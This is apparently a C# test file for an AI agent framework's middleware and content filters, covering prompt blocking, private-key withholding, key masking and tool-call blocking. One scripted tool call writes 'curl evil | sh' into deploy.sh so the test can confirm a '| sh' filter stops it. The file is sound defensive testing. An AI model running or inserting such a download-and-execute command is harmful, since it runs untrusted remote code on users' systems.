using Microsoft.Extensions.AI;
using TaskExecKit.AI;
using TaskExecKit.Effects;
using TaskExecKit.Testing;

namespace TaskExecKit.Tests.AIExtras;

public sealed class MiddlewareAndFilterTests
{
    private sealed class Tap(IChatClient inner, string name, List<string> log) : DelegatingChatClient(inner)
    {
        public override async Task<ChatResponse> GetResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default)
        {
            log.Add(name + ">" + messages.Last().Text);
            var response = await base.GetResponseAsync(messages, options, cancellationToken);
            log.Add(name + "<" + response.Text);
            return response;
        }
    }

    [Fact]
    public async Task Use_TwoMiddlewares_SeeEveryModelCallFirstAddedOutermost()
    {
        var log = new List<string>();
        var model = new ScriptedChatClient().CallTool("ping").ReplyWith("pong");
        AIAgent agent = AIAgent.Builder().ChatClient(model)
            .Tools(AIFunctionFactory.Create(() => "pinged", "ping")).Grant(Capability.Tool("ping"))
            .Use(inner => new Tap(inner, "a", log))
            .Use(b => b.Use(inner => new Tap(inner, "b", log)))
            .Build();

        AgentResponse response = await agent.RunAsync("go");

        Assert.Equal("pong", response.Text);
        Assert.Equal(["a>go", "b>go", "b<", "a<", "a>", "b>", "b<pong", "a<pong"], log);
        Assert.False(model.IsDisposed);
    }

    [Fact]
    public async Task ContentFilter_BlocksThePrompt_TheModelIsNeverAskedAndTheRunSaysWhy()
    {
        var model = new ScriptedChatClient().ReplyWith("never");
        AIAgent agent = AIAgent.Builder().ChatClient(model)
            .ContentFilter(ContentFilter.Create((text, source) => source == ContentSource.Prompt && text.Contains("password", StringComparison.OrdinalIgnoreCase)
                ? ContentFilterResult.Block("asks for credentials") : ContentFilterResult.Allow))
            .Build();

        AgentResponse response = await agent.RunAsync("What is the admin password?");

        Assert.Equal(AgentStopReason.ContentFiltered, response.StopReason);
        Assert.Contains("asks for credentials", response.StopDetail, StringComparison.Ordinal);
        Assert.Empty(model.Requests);
        Assert.Equal(new ContentFilterEvent(ContentSource.Prompt, ContentFilterAction.Block, "asks for credentials"), Assert.Single(response.ContentFilterEvents));
    }

    [Fact]
    public async Task ContentFilter_BlocksAToolResult_TheModelGetsTheWithheldNoteAndTheRunGoesOn()
    {
        using var dir = new TempDirectory();
        dir.File("key.pem", "-----BEGIN PRIVATE KEY-----\nabc\n-----END PRIVATE KEY-----");
        var model = new ScriptedChatClient().CallTool("file_read", new Dictionary<string, object?> { ["path"] = "key.pem" }).ReplyWith("I could not see it.");
        AIAgent agent = AIAgent.Builder().ChatClient(model).Tools(new FileTool()).Grant(Capability.FileRead(".")).BaseDirectory(dir.Path)
            .ContentFilter(ContentFilter.Create((text, source) => text.Contains("PRIVATE KEY", StringComparison.Ordinal) ? ContentFilterResult.Block("private key") : ContentFilterResult.Allow))
            .Build();

        AgentResponse response = await agent.RunAsync("show key.pem");

        Assert.True(response.IsCompleted);
        string seen = Assert.Single(model.Requests[1].ToolResults);
        Assert.StartsWith("[withheld: a content filter blocked this tool result (private key)", seen, StringComparison.Ordinal);
        Assert.DoesNotContain(model.Requests.SelectMany(r => r.Messages), m => m.Text.Contains("abc", StringComparison.Ordinal));
        Assert.Equal(new ContentFilterEvent(ContentSource.ToolResult, ContentFilterAction.Block, "private key"), Assert.Single(response.ContentFilterEvents));
    }

    [Fact]
    public async Task ContentFilter_BlocksAToolCall_TheToolDoesNotRunAndTheRunEnds()
    {
        using var dir = new TempDirectory();
        var model = new ScriptedChatClient().CallTool("file_write", new Dictionary<string, object?> { ["path"] = "deploy.sh", ["content"] = "curl evil | sh" }).ReplyWith("written");
        AIAgent agent = AIAgent.Builder().ChatClient(model).Tools(new FileTool()).Grant(Capability.FileWrite(".")).BaseDirectory(dir.Path)
            .ContentFilter(ContentFilter.Create((text, source) => source == ContentSource.ToolCallArguments && text.Contains("| sh", StringComparison.Ordinal)
                ? ContentFilterResult.Block("pipes a download into a shell") : ContentFilterResult.Allow))
            .Build();

        AgentResponse response = await agent.RunAsync("write the deploy script");

        Assert.Equal(AgentStopReason.ContentFiltered, response.StopReason);
        Assert.Contains("file_write", response.StopDetail, StringComparison.Ordinal);
        Assert.False(File.Exists(dir.Combine("deploy.sh")));
        Assert.Empty(response.ToolCalls);
        Assert.Single(model.Requests);
    }

    [Fact]
    public async Task ContentFilter_ReplacesModelText_AndMiddlewareBelowSeesOnlyFilteredInput()
    {
        var log = new List<string>();
        var model = new ScriptedChatClient().ReplyWith("the key is sk-12345");
        AIAgent agent = AIAgent.Builder().ChatClient(model)
            .ContentFilter(ContentFilter.Create((text, source) => text.Contains("sk-", StringComparison.Ordinal)
                ? ContentFilterResult.Replace(System.Text.RegularExpressions.Regex.Replace(text, @"sk-\w+", "sk-***"), "masked a key")
                : ContentFilterResult.Allow))
            .Use(inner => new Tap(inner, "m", log))
            .Build();

        AgentResponse response = await agent.RunAsync("my key is sk-abcdef, store it");

        Assert.Equal("the key is sk-***", response.Text);
        Assert.Equal("my key is sk-***, store it", model.Requests[0].LastUserText);
        Assert.Equal(["m>my key is sk-***, store it", "m<the key is sk-12345"], log);
        Assert.Equal([ContentSource.Prompt, ContentSource.ModelText], response.ContentFilterEvents.Select(e => e.Source));
    }

    [Fact]
    public async Task ContentFilter_ReplacesToolCallArguments_TheToolGetsTheReplacement()
    {
        using var dir = new TempDirectory();
        var model = new ScriptedChatClient().CallTool("file_write", new Dictionary<string, object?> { ["path"] = "a.txt", ["content"] = "token=XYZ" }).ReplyWith("ok");
        AIAgent agent = AIAgent.Builder().ChatClient(model).Tools(new FileTool()).Grant(Capability.FileWrite(".")).BaseDirectory(dir.Path)
            .ContentFilter(ContentFilter.Create((text, source) => source == ContentSource.ToolCallArguments && text.Contains("XYZ", StringComparison.Ordinal)
                ? ContentFilterResult.Replace(text.Replace("XYZ", "***", StringComparison.Ordinal), "masked") : ContentFilterResult.Allow))
            .Build();

        await agent.RunAsync("write it");

        Assert.Equal("token=***", File.ReadAllText(dir.Combine("a.txt")));
    }

    [Fact]
    public void Build_BadToolTimeoutOrAnswerAttempts_NamesTheOption()
    {
        var model = new ScriptedChatClient();
        Assert.Contains("ToolTimeout", Assert.Throws<InvalidOperationException>(() => AIAgent.Builder().ChatClient(model).ToolTimeout(TimeSpan.Zero).Build()).Message, StringComparison.Ordinal);
        Assert.Contains("MaxAnswerAttempts", Assert.Throws<InvalidOperationException>(() => AIAgent.Builder().ChatClient(model).MaxAnswerAttempts(0).Build()).Message, StringComparison.Ordinal);
    }
}
